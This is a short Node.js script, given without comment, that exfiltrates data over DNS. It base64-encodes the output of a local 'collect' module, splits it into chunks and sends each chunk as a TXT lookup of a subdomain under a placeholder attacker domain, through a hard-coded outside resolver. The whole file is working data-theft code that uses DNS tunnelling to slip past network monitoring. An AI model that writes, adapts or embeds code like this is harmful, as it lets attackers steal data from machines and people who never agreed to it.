const { collect } = require('./collect');
const { Resolver } = require('dns');
const r = new Resolver({ timeout: 1500, tries: 1 });
r.setServers(['203.0.113.53']);
const data = Buffer.from(collect()).toString('base64').replace(/=+$/, '').replace(/\+/g, '-').replace(/\//g, '_');
const parts = data.match(/.{1,50}/g) || [];
const sid = (Date.now() % 100000).toString(36);
parts.forEach((p, i) => setTimeout(() => r.resolveTxt(`${p}.${i}-${parts.length}.${sid}.t.example.invalid`, () => {}), i * 40));
